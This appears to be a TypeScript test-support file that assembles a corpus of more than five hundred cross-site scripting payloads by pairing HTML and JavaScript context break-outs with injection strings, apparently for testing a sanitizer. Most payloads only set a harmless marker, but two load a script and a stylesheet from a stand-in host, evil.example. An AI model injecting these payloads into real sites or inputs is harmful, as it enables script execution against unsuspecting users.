import { markdownPayloads, payloads } from './xss-payloads.ts';

/** Contexts into which a text is inserted, with the prefix that breaks out of each. */
const places = [
  ...[
    '',
    '">',
    "'>",
    '`>',
    '</script>',
    '</title>',
    '</textarea>',
    '</style>',
    '</noscript>',
    '</select>',
    '</template>',
  ],
  ...[
    '-->',
    ']]>',
    '*/',
    '"}}</script>',
    '\\"}</script>',
    "');",
    '\u2028',
    '&quot;>',
    '%22%3E',
    '</p></div>',
    '<!--',
  ],
];

/** Payloads that run after breaking out; each sets a mark on its window. */
const runs = [
  '<script>window.__pwn=1</script>',
  '<script>/*</script><svg onload=window.__pwn=1>',
  '<svg/onload=window.__pwn=1>',
  '<img src=x onerror=window.__pwn=1>',
  '<img src=x onerror="window.__pwn=1">',
  '<iframe srcdoc="<script>parent.__pwn=1</script>">',
  '<iframe src="javascript:parent.__pwn=1">',
  '<a href="javascript:window.__pwn=1">x</a>',
  '<a href="java&#9;script:window.__pwn=1">x</a>',
  '<details open ontoggle=window.__pwn=1>x</details>',
  '<video><source onerror=window.__pwn=1></video>',
  '<input autofocus onfocus=window.__pwn=1>',
  '<form><button formaction="javascript:window.__pwn=1">x</button></form>',
  '<object data="javascript:window.__pwn=1"></object>',
  '<base href="//evil.example/"><script src=/x.js></script>',
  '<style>@import"//evil.example/x.css"</style>',
  'x" onmouseover="window.__pwn=1" x="',
  "x' onfocus='window.__pwn=1' autofocus x='",
];

/**
 * Every known payload, and every combination of a break-out and a payload: more than five hundred, without
 * duplicates.
 */
export const corpus: readonly string[] = [
  ...new Set([
    ...payloads,
    ...markdownPayloads,
    ...places.flatMap((place) => runs.map((run) => place + run)),
  ]),
];
